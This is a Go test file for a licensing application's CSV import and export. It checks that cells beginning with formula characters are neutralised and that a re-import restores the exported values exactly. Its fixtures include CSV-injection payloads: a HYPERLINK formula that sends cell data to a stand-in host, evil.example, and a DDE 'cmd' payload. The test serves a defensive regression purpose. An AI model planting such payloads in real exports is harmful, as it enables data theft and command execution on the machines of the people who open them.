package imports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/licensor/licensor/app/customers"
	"github.com/licensor/licensor/app/db"
	"github.com/licensor/licensor/app/fields"
	"github.com/licensor/licensor/app/imports"
	"github.com/licensor/licensor/app/licensing"
	"github.com/licensor/licensor/app/settings"
)

func TestNeutraliseIsReversible(t *testing.T) {
	t.Parallel()
	for _, v := range []string{"", "'", "''", "'a", "a", "=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'=x", "''=x", "'''", "O'Brien", "'tis"} {
		n := imports.Neutralise(v)
		if n != "" && strings.ContainsRune("=+-@\t\r", rune(n[0])) {
			t.Errorf("Neutralise(%q) = %q starts a formula", v, n)
		}
		if back := imports.Unneutralise(n); back != v {
			t.Errorf("Unneutralise(Neutralise(%q)) = %q", v, back)
		}
	}
}

// TestCSVExportNeutralisesFormulas replays issue 15.10: a customer named
// =HYPERLINK(...) came out of the customers and licenses exports as a
// formula a spreadsheet runs. Every cell starting with = + - @ (tab, CR)
// is written with a leading apostrophe, and importing the file gives back
// exactly what was exported.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, 1000)
	ctx := context.Background()
	p := newProduct(t, e.d, "ACME")
	cs := customers.NewService(nil, customers.Hooks{})
	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"Open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=already quoted", "O'Brien"}
	for i, name := range hostile {
		if _, err := cs.Create(ctx, e.d.Bun, admin, settings.Defaults(), customers.CreateParams{
			Name: name, Email: string(rune('a'+i)) + "@example.com", ClientID: "=client-" + string(rune('a'+i)),
		}); err != nil {
			t.Fatal(err)
		}
	}
	ls := licensing.NewService(licensing.Options{})
	for i, text := range hostile {
		code, typ := "CODE-"+string(rune('A'+i)), "-"+text
		if _, err := ls.CreateLicense(ctx, e.d.Bun, admin, settings.Defaults(), licensing.LicenseInput{
			ProductReferenceID: fields.Some(p.ReferenceID), LicenseCode: fields.Some(code), Type: fields.Some(&typ),
			Comments: fields.Some(&text), Invoice: fields.Some(&text),
		}); err != nil {
			t.Fatal(err)
		}
	}
	format, _ := e.svc.Formats().Get("csv")
	var cu, li bytes.Buffer
	if err := e.svc.ExportCustomers(ctx, &cu, format, customers.Filter{}); err != nil {
		t.Fatal(err)
	}
	if err := e.svc.ExportLicenses(ctx, &li, format, licensing.LicenseFilter{}); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string]string{"customers": cu.String(), "licenses": li.String()} {
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("%s export: cell %q reads as a formula:\n%s", name, cell, out)
				}
			}
		}
		if !strings.Contains(out, `'=HYPERLINK(`) {
			t.Fatalf("%s export lacks the neutralised name:\n%s", name, out)
		}
	}

	snapshot := func(d *db.DB) string {
		var rows []string
		err := d.Bun.NewRaw(`SELECT concat_ws('|', name, email, client_id) FROM customers
			UNION ALL SELECT concat_ws('|', l.license_code, l.type, l.comments, l.invoice)
			FROM licenses l ORDER BY 1`).Scan(ctx, &rows)
		if err != nil {
			t.Fatal(err)
		}
		return strings.Join(rows, "\n")
	}
	fresh := newEnv(t, 1000)
	newProduct(t, fresh.d, "ACME")
	if done := fresh.run(fresh.upload(imports.Customers, "c.csv", cu.String()), imports.Skip); done.Inserted != len(hostile) {
		t.Fatalf("customers round trip %+v %+v", done, done.Problems)
	}
	if done := fresh.run(fresh.upload(imports.Licenses, "l.csv", li.String()), imports.Skip); done.Inserted != len(hostile) {
		t.Fatalf("licenses round trip %+v %+v", done, done.Problems)
	}
	if got, want := snapshot(fresh.d), snapshot(e.d); got != want {
		t.Fatalf("round trip differs:\n%s\nwant\n%s", got, want)
	}
}
